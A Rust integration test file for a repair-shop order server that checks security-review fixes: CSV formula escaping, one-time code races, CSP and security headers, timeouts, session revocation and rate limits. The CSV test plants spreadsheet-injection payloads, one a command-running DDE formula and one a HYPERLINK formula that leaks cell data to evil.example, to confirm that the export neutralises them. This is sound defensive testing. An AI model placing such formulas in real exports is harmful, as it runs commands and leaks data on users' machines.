//! The findings of the security review (issue 14), each as the behaviour that closes it: CSV
//! cells that cannot run, one-time codes that cannot be claimed twice, the security headers, the
//! request timeout and concurrency limit, what a password reset or deactivation takes back, the
//! password asked again, and the bounds on list filters and on what one order holds.

use std::time::Duration;

use chrono::Utc;
use reqwest::Method;
use sea_orm::{ActiveModelTrait, EntityTrait, Set};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use app::model::{Role, TelegramLinkRequest, Viewer};
use server::entities::{comment, one_time_code, order_item, time_entry};
use server::services::auth::{self, one_time_codes};
use server::services::per_order::MAX_PER_ORDER;

use crate::bot_api::BotApi;
use crate::helpers::{Account, TestApp, assert_error, json, order_body, spawn_app, spawn_app_with, spawn_app_with_bot};

/// The CSV export as the admin downloads it, parsed: the header row, then one row per order.
async fn export_rows(app: &TestApp, token: &str) -> Vec<Vec<String>> {
    let response =
        app.client.get(app.url("/api/admin/orders/export.csv")).bearer_auth(token).send().await.expect("request");
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote() {
    let app = spawn_app_with(|config| config.flags.enable_car_number = Some(true)).await;
    let staff = app.staff().await;
    let mallory = app.account("mallory", "@SUM(1+1)*cmd|'/C calc'!A0", Role::Mechanic).await;
    let part = r#"=HYPERLINK("http://evil.example/?"&A1,"pads")"#;
    let body = json!({"vin": "CSV1", "car_number": "-12-345", "part_type": part, "category": "+cmd",
                      "original_or_analog": "original"});
    app.create_order(&mallory.token, &body).await;
    app.create_order(&staff.avi.token, &order_body("CSV2")).await;

    let rows = export_rows(&app, &staff.admin.token).await;
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("{name}: {header:?}"));
    let evil = rows.iter().find(|row| row[column("vin")] == "CSV1").expect("the order");
    assert_eq!(evil[column("mechanic")], "'@SUM(1+1)*cmd|'/C calc'!A0");
    assert_eq!(evil[column("part")], format!("'{part}"));
    assert_eq!(evil[column("category")], "'+cmd");
    assert_eq!(evil[column("car_number")], "'-12-345");
    // Everything else is as typed.
    let plain = rows.iter().find(|row| row[column("vin")] == "CSV2").expect("the order");
    assert_eq!((plain[column("mechanic")].as_str(), plain[column("part")].as_str()), ("Avi Cohen", "oil filter"));
    assert!(plain[column("created_at")].starts_with("20"), "{plain:?}");
}

#[tokio::test]
async fn a_one_time_code_claimed_since_it_was_read_is_not_claimed_again() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let services = &app.state.services;
    let viewer = viewer(&staff.avi, Role::Mechanic);
    let request = TelegramLinkRequest { current_password: staff.avi.password.clone() };
    auth::create_telegram_link_code(services, &viewer, request).await.map_err(|e| e.into_app_error()).unwrap();
    // Two redemptions read the code while it was unused; the first one's claim wins.
    let read = one_time_code::Entity::find().one(&services.db.read).await.unwrap().expect("the code");
    assert!(read.used_at.is_none());
    assert!(one_time_codes::claim(&services.db.write, &read).await.unwrap(), "the first claim");
    assert!(!one_time_codes::claim(&services.db.write, &read).await.unwrap(), "the second claim");
}

/// A `Viewer` for a service call made as `account`.
fn viewer(account: &Account, role: Role) -> Viewer {
    Viewer { id: account.id, role, display_name: String::new(), language: app::model::Language::En, session_id: 0 }
}

/// Writes `head` and the start of a body over a raw connection, then stops sending, and returns
/// the status line of whatever answer comes within `wait` (None when none comes).
async fn stalled_request(app: &TestApp, wait: Duration) -> Option<String> {
    let address = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.expect("connect");
    let head = "POST /api/auth/login HTTP/1.1\r\nHost: felix.test\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"user";
    stream.write_all(head.as_bytes()).await.expect("write");
    let mut answer = Vec::new();
    let mut buffer = [0u8; 1024];
    let read = tokio::time::timeout(wait, async {
        while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
            match stream.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buffer[..n]),
            }
        }
    })
    .await;
    read.ok()?;
    let text = String::from_utf8_lossy(&answer).into_owned();
    Some(text)
}

#[tokio::test]
async fn a_request_that_stalls_past_the_timeout_gets_a_503_instead_of_a_hang() {
    let app = spawn_app_with(|config| config.limits.request_timeout_secs = 1).await;
    let answer = stalled_request(&app, Duration::from_secs(10)).await.expect("an answer within 10 s");
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
    assert!(answer.to_ascii_lowercase().contains("content-security-policy:"), "headers on it too: {answer}");
}

#[tokio::test]
async fn a_request_past_the_concurrency_limit_gets_a_503_with_retry_after_at_once() {
    let app = spawn_app_with(|config| config.limits.max_concurrent_requests = 1).await;
    // One request holds the only place, sending its body slowly.
    let same = same_server(&app);
    let holder = tokio::spawn(async move { stalled_request(&same, Duration::from_secs(5)).await });
    let mut busy = None;
    for _ in 0..50 {
        let response = app.send(Method::GET, "/api/orders", None, None).await;
        if response.status() == 503 {
            busy = Some(response);
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let busy = busy.expect("a 503 while the place is taken");
    assert_eq!(busy.headers()["retry-after"], "1");
    let (status, body) = json(busy).await;
    assert_error(status, &body, 503, "unavailable");
    // The health check is not counted: a busy server is still seen to be up.
    assert_eq!(app.get("/health").await.status(), 200);
    holder.abort();
}

/// Another `TestApp` value talking to the same server (for a task of its own).
fn same_server(app: &TestApp) -> TestApp {
    TestApp {
        address: app.address.clone(),
        client: app.client.clone(),
        state: app.state.clone(),
        database_url: app.database_url.clone(),
        _db: None,
    }
}

/// A built web app of one page with an inline script, as Trunk's index.html has.
const INDEX: &str = "<!DOCTYPE html><html><head><script>window.felixBundle=\"login\"</script>\
    <script type=module>import(\"/login.js\")</script><script src=\"/x.js\"></script></head><body></body></html>";

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_a_csp_naming_the_inline_scripts() {
    let dist = tempfile::tempdir().unwrap();
    std::fs::write(dist.path().join("index.html"), INDEX).unwrap();
    let app = spawn_app_with(|config| config.dist_dir = dist.path().to_owned()).await;
    let staff = app.staff().await;
    for (path, token, status) in [
        ("/", None, 200),
        ("/mechanic/orders/7", None, 200),
        ("/missing.js", None, 404),
        ("/health", None, 200),
        ("/api/orders", None, 401),
        ("/api/orders", Some(staff.avi.token.as_str()), 200),
        ("/api/no-such-route", None, 404),
        ("/api/openapi.json", None, 200),
    ] {
        let response = app.send(Method::GET, path, None, token).await;
        assert_eq!(response.status(), status, "{path}");
        let headers = response.headers();
        let csp = headers["content-security-policy"].to_str().unwrap();
        for directive in [
            "default-src 'self'",
            "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
            "object-src 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
        ] {
            assert!(csp.contains(directive), "{path}: {directive} in {csp}");
        }
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
        assert!(headers.get("strict-transport-security").is_none(), "{path}: no HSTS over http");
    }
    // Exactly the two inline scripts of index.html are allowed.
    let csp = app.get("/").await.headers()["content-security-policy"].to_str().unwrap().to_owned();
    let script_src = csp.split("; ").find(|d| d.starts_with("script-src")).unwrap();
    assert_eq!(script_src.matches("'sha256-").count(), 2, "{script_src}");
}

#[tokio::test]
async fn hsts_is_sent_when_the_public_address_is_https() {
    let app = spawn_app_with(|config| config.public_url = Some("https://felix.example".into())).await;
    for path in ["/health", "/api/orders"] {
        let response = app.get(path).await;
        assert_eq!(response.headers()["strict-transport-security"], "max-age=31536000; includeSubDomains", "{path}");
    }
}

/// What `account` holds before a reset: a second session, a sign-in link, an unused Telegram
/// link code and a linked chat.
struct Held {
    session: String,
    login_link: String,
    link_code: String,
}

async fn hold_everything(app: &TestApp, admin: &Account, username: &str, account: &Account) -> Held {
    let session = app.login(username, &account.password).await;
    let (status, link) =
        app.post_json(&format!("/api/admin/users/{}/login-link", account.id), &json!({}), &admin.token).await;
    assert_eq!(status, 201, "{link}");
    let login_link = link["url"].as_str().unwrap().split("token=").nth(1).unwrap().to_owned();
    let (status, code) = app
        .post_json("/api/auth/telegram-link-code", &json!({"current_password": account.password}), &account.token)
        .await;
    assert_eq!(status, 201, "{code}");
    let (status, user) = app
        .patch_json(&format!("/api/admin/users/{}", account.id), &json!({"telegram_chat_id": 5150}), &admin.token)
        .await;
    assert_eq!((status, &user["telegram_chat_id"]), (200, &json!(5150)), "{user}");
    Held { session, login_link, link_code: code["code"].as_str().unwrap().to_owned() }
}

/// Checks that nothing `held` works any more and that the account has no linked chat.
async fn assert_all_revoked(app: &TestApp, admin: &Account, account: &Account, held: &Held) {
    let (status, body) = app.get_json("/api/auth/me", &held.session).await;
    assert_error(status, &body, 401, "unauthorized");
    let (status, body) = app.post_public("/api/auth/login-link", &json!({"token": held.login_link})).await;
    assert_error(status, &body, 401, "unauthorized");
    let linked = auth::redeem_telegram_link_code(&app.state.services, &held.link_code, 6160).await;
    assert_eq!(linked.map_err(|e| e.into_app_error().field).unwrap_err().as_deref(), Some("code"));
    let (_, users) = app.get_json("/api/admin/users", &admin.token).await;
    let user = users.as_array().unwrap().iter().find(|u| u["user"]["id"] == account.id).expect("listed");
    assert_eq!(user["user"]["telegram_chat_id"], Value::Null, "{user}");
}

#[tokio::test]
async fn a_password_reset_ends_sessions_voids_links_and_codes_and_unlinks_telegram() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let held = hold_everything(&app, &staff.admin, "avi", &staff.avi).await;
    let path = format!("/api/admin/users/{}/password", staff.avi.id);
    let body = json!({"new_password": "reset-password-3"});
    assert_eq!(app.status_of(Method::POST, &path, Some(&body), &staff.admin.token).await, 204);
    assert_all_revoked(&app, &staff.admin, &staff.avi, &held).await;
    app.login("avi", "reset-password-3").await;
}

#[tokio::test]
async fn a_deactivation_ends_sessions_voids_links_and_codes_and_unlinks_telegram() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let held = hold_everything(&app, &staff.admin, "avi", &staff.avi).await;
    let path = format!("/api/admin/users/{}", staff.avi.id);
    let (status, user) = app.patch_json(&path, &json!({"active": false}), &staff.admin.token).await;
    assert_eq!(status, 200, "{user}");
    assert_eq!(user["telegram_chat_id"], Value::Null, "the answer says so: {user}");
    let (status, _) = app.patch_json(&path, &json!({"active": true}), &staff.admin.token).await;
    assert_eq!(status, 200);
    assert_all_revoked(&app, &staff.admin, &staff.avi, &held).await;
}

#[tokio::test]
async fn a_password_change_keeps_this_session_and_takes_back_everything_else() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let held = hold_everything(&app, &staff.admin, "avi", &staff.avi).await;
    let body = json!({"current_password": staff.avi.password, "new_password": "changed-password-4"});
    assert_eq!(app.status_of(Method::POST, "/api/auth/password", Some(&body), &staff.avi.token).await, 204);
    assert_all_revoked(&app, &staff.admin, &staff.avi, &held).await;
    assert_eq!(app.get_json("/api/auth/me", &staff.avi.token).await.0, 200, "this session stays");
}

#[tokio::test]
async fn a_telegram_link_code_asks_for_the_current_password() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let (status, body) =
        json(app.send(Method::POST, "/api/auth/telegram-link-code", None, Some(&staff.avi.token)).await).await;
    assert_error(status, &body, 400, "bad_request");
    let (status, body) = app
        .post_json("/api/auth/telegram-link-code", &json!({"current_password": "not-mine-1"}), &staff.avi.token)
        .await;
    assert_error(status, &body, 422, "validation");
    assert_eq!(body["error"]["field"], "current_password");
    let (status, code) = app
        .post_json("/api/auth/telegram-link-code", &json!({"current_password": staff.avi.password}), &staff.avi.token)
        .await;
    assert_eq!(status, 201, "{code}");
    let linked = auth::redeem_telegram_link_code(&app.state.services, code["code"].as_str().unwrap(), 7170).await;
    assert_eq!(linked.map_err(|e| e.into_app_error()).unwrap().telegram_chat_id, Some(7170));
}

#[tokio::test]
async fn an_admin_cannot_mint_a_sign_in_link_for_another_admin() {
    let app = spawn_app().await;
    let staff = app.staff().await;
    let other = app.account("noa", "Noa Peretz", Role::Admin).await;
    let (status, body) =
        app.post_json(&format!("/api/admin/users/{}/login-link", other.id), &json!({}), &staff.admin.token).await;
    assert_error(status, &body, 403, "forbidden");
    let (status, _) =
        app.post_json(&format!("/api/admin/users/{}/login-link", staff.avi.id), &json!({}), &staff.admin.token).await;
    assert_eq!(status, 201, "mechanics still get links");
}

#[tokio::test]
async fn wrong_current_passwords_are_limited_like_sign_ins() {
    let api = BotApi::start().await;
    let app = spawn_app_with_bot(&api).await;
    let staff = app.staff().await;
    let change = |current: &str| json!({"current_password": current, "new_password": "changed-password-5"});
    for attempt in 1..=5 {
        let (status, body) = app.post_json("/api/auth/password", &change("guess-guess"), &staff.avi.token).await;
        assert_eq!(status, 422, "attempt {attempt}: {body}");
    }
    // The Telegram link code asks for the same password and counts into the same limit.
    for attempt in 6..=10 {
        let (status, body) = app
            .post_json("/api/auth/telegram-link-code", &json!({"current_password": "guess-guess"}), &staff.avi.token)
            .await;
        assert_eq!(status, 422, "attempt {attempt}: {body}");
    }
    let response =
        app.send(Method::POST, "/api/auth/password", Some(&change(&staff.avi.password)), Some(&staff.avi.token)).await;
    let retry: u64 = response.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=15 * 60).contains(&retry), "{retry}");
    let (status, body) = json(response).await;
    assert_error(status, &body, 429, "rate_limited");
    // Another user is not affected, and the password itself is unchanged.
    let body = json!({"current_password": staff.misha.password, "new_password": "changed-password-5"});
    assert_eq!(app.status_of(Method::POST, "/api/auth/password", Some(&body), &staff.misha.token).await, 204);
    app.login("avi", &staff.avi.password).await;
}

#[tokio::test]
async fn a_status_named_twice_is_counted_once() {
    let app = spawn_app().await;
    let staff = app.staff().await;
    for vin in ["TWICE1", "TWICE2"] {
        app.new_order_id(&staff.avi.token, vin).await;
    }
    for query in ["status=new", "status=new,new", "status=new,new,in_progress,new"] {
        let (status, page) = app.get_json(&format!("/api/orders?{query}"), &staff.avi.token).await;
        assert_eq!(status, 200, "{page}");
        assert_eq!(page["total"], 2, "{query}: {page}");
    }
}

#[tokio::test]
async fn a_search_longer_than_100_characters_is_a_422_naming_the_filter() {
    let app = spawn_app_with(|config| {
        config.flags.enable_car_number = Some(true);
        config.flags.enable_part_categories = Some(true);
    })
    .await;
    let staff = app.staff().await;
    let long = "a".repeat(101);
    for (path, field) in [
        (format!("/api/orders?q={long}"), "q"),
        (format!("/api/orders?vin={long}"), "vin"),
        (format!("/api/orders?car_number={long}"), "car_number"),
        (format!("/api/admin/orders/export.csv?q={long}"), "q"),
        (format!("/api/parts?q={long}"), "q"),
    ] {
        let (status, body) = app.get_json(&path, &staff.admin.token).await;
        assert_error(status, &body, 422, "validation");
        assert_eq!(body["error"]["field"], field, "{path}");
    }
    let (status, _) = app.get_json(&format!("/api/orders?q={}", "a".repeat(100)), &staff.admin.token).await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn an_order_holds_at_most_200_comments_items_and_time_entries() {
    let app = spawn_app().await;
    let staff = app.staff().await;
    let id = app.new_order_id(&staff.avi.token, "FULL1").await;
    let db = &app.state.services.db.write;
    let now = Utc::now();
    let hour_ago = now - chrono::Duration::hours(1);
    // One short of the limit of each, written straight to the database.
    for _ in 1..MAX_PER_ORDER {
        comment::ActiveModel {
            order_id: Set(id),
            author_id: Set(staff.avi.id),
            body: Set("note".into()),
            created_at: Set(now),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
        order_item::ActiveModel {
            order_id: Set(id),
            kind: Set(order_item::Kind::Work),
            name: Set("Fitting".into()),
            unit_price_agorot: Set(100),
            quantity: Set(1),
            minutes: Set(Some(5)),
            created_at: Set(now),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
        time_entry::ActiveModel {
            order_id: Set(id),
            mechanic_id: Set(staff.avi.id),
            started_at: Set(hour_ago),
            ended_at: Set(Some(now)),
            seconds: Set(Some(3600)),
            source: Set(time_entry::Source::Manual),
            created_at: Set(now),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
    }
    let comment = json!({"body": "one more"});
    let item = json!({"kind": "work", "name": "Fitting", "price_agorot": 100, "minutes": 5});
    let entry = json!({"started_at": hour_ago, "ended_at": now});
    let writes = [
        (format!("/api/orders/{id}/comments"), comment.clone()),
        (format!("/api/orders/{id}/items"), item.clone()),
        (format!("/api/orders/{id}/time-entries"), entry.clone()),
    ];
    // The 200th of each is taken, the 201st refused.
    for (path, body) in &writes {
        let (status, answer) = app.post_json(path, body, &staff.avi.token).await;
        assert_eq!(status, 201, "{path}: {answer}");
    }
    for (path, body) in &writes {
        let (status, answer) = app.post_json(path, body, &staff.avi.token).await;
        assert_error(status, &answer, 409, "conflict");
        assert!(answer["error"]["message"].as_str().unwrap().contains("200"), "{answer}");
    }
    let (status, answer) =
        json(app.send(Method::POST, &format!("/api/orders/{id}/timer/start"), None, Some(&staff.avi.token)).await)
            .await;
    assert_error(status, &answer, 409, "conflict");
    // Another order is not affected.
    let other = app.new_order_id(&staff.avi.token, "FULL2").await;
    let (status, _) = app.post_json(&format!("/api/orders/{other}/comments"), &comment, &staff.avi.token).await;
    assert_eq!(status, 201);
}

#[tokio::test]
async fn time_cannot_be_entered_by_hand_on_a_closed_order() {
    let app = spawn_app().await;
    let staff = app.staff().await;
    let now = Utc::now();
    let entry = json!({"started_at": now - chrono::Duration::hours(2), "ended_at": now - chrono::Duration::hours(1)});
    for closed in ["completed", "cancelled"] {
        let id = app.new_order_id(&staff.avi.token, &format!("CLOSED{}", closed.len())).await;
        app.move_order(id, closed, &staff.avi.token).await;
        for token in [&staff.avi.token, &staff.admin.token] {
            let (status, body) = app.post_json(&format!("/api/orders/{id}/time-entries"), &entry, token).await;
            assert_error(status, &body, 409, "conflict");
        }
        let details = app.details(id, &staff.avi.token).await;
        assert_eq!(details["time_entries"], json!([]), "{details}");
    }
}
